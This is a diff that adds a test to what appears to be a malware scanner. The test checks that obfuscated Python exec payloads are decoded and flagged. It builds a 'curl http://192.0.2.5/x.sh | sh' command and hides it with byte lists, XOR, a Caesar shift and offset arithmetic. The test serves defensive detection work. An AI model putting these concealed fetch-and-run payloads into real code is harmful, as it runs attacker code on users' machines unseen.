@@ -404,3 +404,24 @@ test("the user's identity as a DNS label is a callback even when called; under a
   assert.equal(collector?.destination?.kind, 'tunnel-or-oast');
   assert.equal(collector?.severity, 'high');
 });
+
+test('home-made ciphers over constant data are decoded: byte lists, XOR and shifts in a comprehension', () => {
+  const code = 'import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n';
+  const codes = [...code].map((c) => c.charCodeAt(0));
+  const padded = `import os\n${'x = 1\n'.repeat(40)}os.system("curl http://192.0.2.5/x.sh | sh")\n`;
+  const paddedCodes = [...padded].map((c) => c.charCodeAt(0));
+  const shifted = [...code].map((c) => String.fromCharCode(c.charCodeAt(0) + 3)).join('');
+  const sources = {
+    'a byte list': `exec(bytes([${codes.join(', ')}]).decode())\n`,
+    'XOR over a list of more than 64 codes': `data = [${paddedCodes.map((c) => c ^ 13).join(', ')}]\nexec("".join(chr(c ^ 13) for c in data))\n`,
+    'a Caesar shift over a string': `exec("".join(chr(ord(c) - 3) for c in ${JSON.stringify(shifted)}))\n`,
+    'a list comprehension with a hex key': `exec("".join([chr((c + 0x07) % 256) for c in [${codes.map((c) => c - 7).join(', ')}]]))\n`,
+  };
+  for (const [how, source] of Object.entries(sources)) {
+    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
+    assert.equal(exec?.severity, 'critical', how);
+    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/, how);
+  }
+  const table = findings('WIDTHS = [c - 32 for c in [64, 65, 66]]\nlabel = "".join(chr(c + 32) for c in WIDTHS)\n');
+  assert.equal(ruleOf(table, 'exec-decoded-payload'), undefined, 'arithmetic that nothing executes is just data');
+});
